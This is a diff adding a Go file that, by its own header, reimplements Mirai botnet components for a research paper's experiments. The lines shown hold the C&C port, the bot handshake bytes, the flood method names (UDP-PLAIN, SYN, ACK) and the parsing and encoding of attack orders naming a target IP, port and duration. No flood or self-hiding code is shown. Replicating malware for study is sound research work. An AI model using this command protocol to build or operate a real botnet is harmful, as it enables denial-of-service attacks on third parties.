@@ -1,0 +1,107 @@
+// Package mirai implements the Mirai malware components the paper
+// deploys from its published source: the bot (self-hiding, rival
+// killing, C&C registration, UDP-PLAIN flood engine), the C&C server
+// with its telnet admin interface and bot registry, and the small wire
+// protocol between them.
+package mirai
+
+import (
+	"fmt"
+	"net/netip"
+	"strconv"
+	"strings"
+)
+
+// CNCPort is the TCP port Mirai bots and telnet admins connect to.
+const CNCPort = 23
+
+// botMagic is the 4-byte preamble a bot sends on connect; anything
+// else is treated as a telnet admin session, matching how the real C&C
+// multiplexes port 23.
+var botMagic = []byte{0x00, 0x00, 0x00, 0x01}
+
+// Attack method names. The paper's experiment series uses UDP-PLAIN;
+// SYN and ACK floods are also implemented from Mirai's attack module.
+const (
+	MethodUDPPlain = "udpplain"
+	MethodSYN      = "syn"
+	MethodACK      = "ack"
+)
+
+// KnownMethod reports whether m names an implemented attack.
+func KnownMethod(m string) bool {
+	switch m {
+	case MethodUDPPlain, MethodSYN, MethodACK:
+		return true
+	default:
+		return false
+	}
+}
+
+// DefaultUDPPlainPayload is Mirai's default UDP flood payload size in
+// bytes.
+const DefaultUDPPlainPayload = 512
+
+// AttackCommand is a parsed C&C attack order.
+type AttackCommand struct {
+	Method   string
+	Target   netip.Addr
+	Port     uint16
+	Duration int // seconds
+}
+
+// Encode renders the bot-wire form of the command.
+func (a AttackCommand) Encode() string {
+	return fmt.Sprintf("%s %s %d %d\n", a.Method, a.Target, a.Port, a.Duration)
+}
+
+// ParseAttackCommand parses a bot-wire command line.
+func ParseAttackCommand(line string) (AttackCommand, error) {
+	fields := strings.Fields(strings.TrimSpace(line))
+	if len(fields) != 4 {
+		return AttackCommand{}, fmt.Errorf("mirai: bad attack command %q", line)
+	}
+	if !KnownMethod(fields[0]) {
+		return AttackCommand{}, fmt.Errorf("mirai: unsupported method %q", fields[0])
+	}
+	addr, err := netip.ParseAddr(fields[1])
+	if err != nil {
+		return AttackCommand{}, fmt.Errorf("mirai: bad target: %w", err)
+	}
+	port, err := strconv.ParseUint(fields[2], 10, 16)
+	if err != nil {
+		return AttackCommand{}, fmt.Errorf("mirai: bad port: %w", err)
+	}
+	secs, err := strconv.Atoi(fields[3])
+	if err != nil || secs <= 0 {
+		return AttackCommand{}, fmt.Errorf("mirai: bad duration %q", fields[3])
+	}
+	return AttackCommand{Method: fields[0], Target: addr, Port: uint16(port), Duration: secs}, nil
+}
+
+// lineBuffer accumulates stream bytes and yields complete lines.
+type lineBuffer struct {
+	buf []byte
+}
+
+// feed appends data and returns any completed lines (without their
+// newline).
+func (l *lineBuffer) feed(data []byte) []string {
+	l.buf = append(l.buf, data...)
+	var lines []string
+	for {
+		idx := -1
+		for i, b := range l.buf {
+			if b == '\n' {
+				idx = i
+				break
+			}
+		}
+		if idx < 0 {
+			return lines
+		}
+		line := strings.TrimRight(string(l.buf[:idx]), "\r")
+		l.buf = append(l.buf[:0], l.buf[idx+1:]...)
+		lines = append(lines, line)
+	}
+}
